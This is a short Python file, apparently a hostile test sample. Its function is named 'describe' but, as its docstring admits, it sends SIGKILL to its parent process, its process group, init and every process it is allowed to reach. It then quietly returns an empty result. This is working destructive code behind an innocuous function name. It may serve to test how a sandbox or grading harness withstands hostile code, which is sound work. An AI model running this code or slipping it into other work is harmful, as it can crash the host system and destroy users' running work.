"""System: kills its parent, its group and every process it may."""
DESERVES = 9
# %% describe
import os
import signal


def describe(text):
    for pid in (os.getppid(), 0, 1, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return {}
